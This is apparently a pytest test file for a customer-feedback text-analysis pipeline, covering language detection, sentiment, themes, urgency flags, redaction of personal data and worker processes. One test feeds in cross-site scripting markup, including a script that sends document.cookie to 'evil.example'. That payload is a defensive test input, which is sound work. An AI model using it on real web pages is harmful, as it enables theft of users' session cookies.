"""The text-analysis pipeline's contract: language, sentiment, themes with their own sentiment,
urgency and redaction for each text, in order, whatever the input."""

from __future__ import annotations

import json

import pytest

from advocacy.errors import InvalidInput
from advocacy.text import LanguageIdentifier, analyze
from advocacy.text.pipeline import Analyzer


@pytest.fixture(scope="module")
def fast() -> Analyzer:
    return Analyzer("fast")


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("The parcel arrived two weeks late and nobody answered my emails.", "en"),
        ("El pedido llegó tarde y nadie contesta al teléfono.", "es"),
        ("Заказ пришёл с опозданием на две недели, никто не отвечает.", "ru"),
        ("Coletul a ajuns cu două săptămâni întârziere și nimeni nu răspunde.", "ro"),
        ("Produsul este foarte bun si livrarea a fost rapida", "ro"),
    ],
)
def test_each_configured_language_is_recognised(text: str, language: str) -> None:
    assert LanguageIdentifier()(text).language == language


@pytest.mark.parametrize("text", ["", "ok", "10/10", "👍👍👍", "!!!", None])
def test_texts_too_short_to_tell_are_unknown(text: str | None) -> None:
    guess = LanguageIdentifier()(text)

    assert guess.language == "unknown"


def test_a_language_outside_the_configuration_is_never_named() -> None:
    identify = LanguageIdentifier(["en", "es"])

    # Italian is neither: it is called one of the two or unknown, never "it".
    guess = identify("Il pacco è arrivato in ritardo e nessuno risponde alle email.")

    assert guess.language in {"en", "es", "unknown"}


def test_a_cyrillic_text_is_unknown_when_no_cyrillic_language_is_configured() -> None:
    assert LanguageIdentifier(["en", "ro"])("Заказ пришёл вовремя").language == "unknown"


def test_a_language_the_model_does_not_know_is_refused_clearly() -> None:
    with pytest.raises(InvalidInput, match="xx"):
        LanguageIdentifier(["en", "xx"])("Good morning to everyone here")


def test_no_languages_at_all_is_refused() -> None:
    with pytest.raises(InvalidInput):
        LanguageIdentifier([])


def test_analyze_gives_one_result_a_text_with_the_documented_fields_in_order() -> None:
    texts = [
        "Great service, fast delivery, I love it!",
        None,
        "Terrible quality, it broke after one day.",
    ]

    results = analyze(texts, mode="fast")

    assert len(results) == 3
    first, missing, last = results
    assert (first.language, first.sentiment) == ("en", "positive")
    assert (last.language, last.sentiment) == ("en", "negative")
    assert (missing.language, missing.sentiment, missing.themes) == ("unknown", None, ())
    assert (first.sentiment_score or 0) > 0
    assert (last.sentiment_score or 0) < 0
    assert "delivery" in first.theme_names
    assert "quality" in last.theme_names
    json.dumps([result.as_dict() for result in results])  # JSON-ready


def test_each_theme_gets_the_sentiment_of_what_is_said_about_it(fast: Analyzer) -> None:
    (result,) = fast.analyze(
        [
            "The delivery was fast and the courier was very friendly. "
            "But the price is far too expensive, a total rip-off."
        ]
    )

    by_theme = {mention.theme: mention.sentiment for mention in result.themes}
    assert by_theme["delivery"] == "positive"
    assert by_theme["price"] == "negative"
    assert len(result.sentences) == 2


def test_a_glowing_urgent_recommendation_is_not_flagged_but_a_legal_threat_is(
    fast: Analyzer,
) -> None:
    glowing, threat = fast.analyze(
        [
            "Urgent recommendation: buy it now, the best purchase I have ever made!",
            "This is a scam, you charged me twice and I will contact my lawyer and sue you.",
        ]
    )

    assert (glowing.sentiment, glowing.urgent) == ("positive", False)
    assert threat.urgent
    assert "legal_threat" in threat.urgency_reasons


def test_personal_data_is_redacted_in_the_result_and_the_analysis_unchanged(
    fast: Analyzer,
) -> None:
    text = "Terrible service, write to me at ana.pop@example.com or call +40 721 234 567."

    (redacted,) = fast.analyze([text])
    (unredacted,) = fast.analyze([text], redact_texts=False)

    assert "ana.pop@example.com" not in redacted.redacted_text
    assert "[EMAIL]" in redacted.redacted_text
    assert unredacted.redacted_text == ""
    assert (unredacted.sentiment, unredacted.sentiment_score) == (
        redacted.sentiment,
        redacted.sentiment_score,
    )


def test_hostile_markup_is_analysed_as_text_and_kept_verbatim_in_the_redacted_copy(
    fast: Analyzer,
) -> None:
    plain = "Awful quality: it broke after one day and I want my money back."
    marked = (
        "<script>document.location='https://evil.example/?'+document.cookie</script>"
        '<p onclick="steal()">Awful quality: it <b>broke</b> after one day and I want my '
        "money back.</p><!-- hidden <img src=x onerror=alert(1)> -->"
    )

    as_text, as_markup = fast.analyze([plain, marked])

    assert (as_markup.language, as_markup.sentiment) == (as_text.language, as_text.sentiment)
    assert as_markup.sentiment_score == pytest.approx(as_text.sentiment_score, abs=0.05)
    assert as_markup.redacted_text.startswith("<script>")  # showing it safely is the viewer's job
    # Sentences are read without their tags, at their places in the original text.
    (sentence,) = as_markup.sentences
    assert "<" not in sentence.text
    assert marked[sentence.start : sentence.end].startswith("Awful quality: it <b>broke</b>")


def test_huge_and_control_character_texts_are_analysed_without_error(fast: Analyzer) -> None:
    huge = "The delivery was late again. " * 20_000
    odd = "Great\x00 product\x07, fast\u202e delivery"

    big, strange = fast.analyze([huge, odd])

    assert big.sentiment == "negative"
    assert strange.language == "en"


def test_an_unknown_mode_is_refused() -> None:
    with pytest.raises(InvalidInput, match="mode"):
        Analyzer("quick")  # type: ignore[arg-type]


# Worker processes are forked only from a process without other threads; pytest's may have
# some, so these run in a fresh interpreter.
_IN_WORKERS = """
import json, multiprocessing
from advocacy.text.pipeline import Analyzer, analyze_batches

texts = [
    "The courier lost my parcel and nobody answers. I will call my lawyer!",
    "Calitate excelentă, livrare rapidă, recomand!",
    "Доставка опоздала на две недели, ужасный сервис",
    "<script>alert('x')</script> Entrega tardísima, fatal",
    "Write to maria.lopez@example.com: the delivery was late",
    "",
    None,
    "Great service! " * 5000,
]
batches = [texts[k:] + texts[:k] for k in range(6)]
analyzer = Analyzer("fast")
alone = list(analyze_batches(analyzer, batches, workers=1))
children = []
together = []
for results in analyze_batches(analyzer, batches, workers=2):
    children.append(len(multiprocessing.active_children()))
    together.append(results)
early = analyze_batches(analyzer, batches, workers=2)
next(early)
during = len(multiprocessing.active_children())
early.close()
after = len(multiprocessing.active_children())

import os
from advocacy.errors import AdvocacyError
parent = os.getpid()


class Dying(Analyzer):
    def analyze(self, texts, **options):
        if "die" in texts and os.getpid() != parent:
            os._exit(3)  # as a worker killed for memory
        return super().analyze(texts, **options)


died = ""
try:
    list(analyze_batches(Dying("fast"), [["fine"], ["die"], ["fine"]], workers=2))
except AdvocacyError as exc:
    died = str(exc)
print(json.dumps({
    "same": alone == together,
    "batches": len(together),
    "children": max(children),
    "during": during,
    "after": after,
    "died": died,
}))
"""


@pytest.fixture(scope="module")
def in_workers() -> dict[str, object]:
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-c", _IN_WORKERS],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


def test_worker_processes_give_each_batch_the_analysis_one_process_gives_it(
    in_workers: dict[str, object],
) -> None:
    report = in_workers

    assert report["same"] is True
    assert report["batches"] == 6
    assert report["children"] == 2


def test_stopping_early_stops_the_worker_processes(in_workers: dict[str, object]) -> None:
    report = in_workers

    assert report["during"] == 2
    assert report["after"] == 0


def test_a_worker_process_that_dies_is_reported_rather_than_waited_for(
    in_workers: dict[str, object],
) -> None:
    assert "worker process of the text analysis stopped" in str(in_workers["died"])


def test_a_process_with_other_threads_analyses_in_itself(fast: Analyzer) -> None:
    import multiprocessing
    import threading

    from advocacy.text.pipeline import analyze_batches

    release = threading.Event()
    waiting = threading.Thread(target=release.wait)
    waiting.start()
    try:
        children = []
        results = []
        for batch in analyze_batches(fast, [["Great!"], ["Awful."], ["Fine."]], workers=2):
            children.append(len(multiprocessing.active_children()))
            results.append(batch[0].sentiment)
    finally:
        release.set()
        waiting.join()

    assert children == [0, 0, 0]
    assert results == [r.sentiment for r in fast.analyze(["Great!", "Awful.", "Fine."])]


def test_fewer_than_one_worker_is_refused(fast: Analyzer) -> None:
    from advocacy.text.pipeline import analyze_batches

    with pytest.raises(InvalidInput, match="at least 1"):
        list(analyze_batches(fast, [["Great!"]], workers=0))
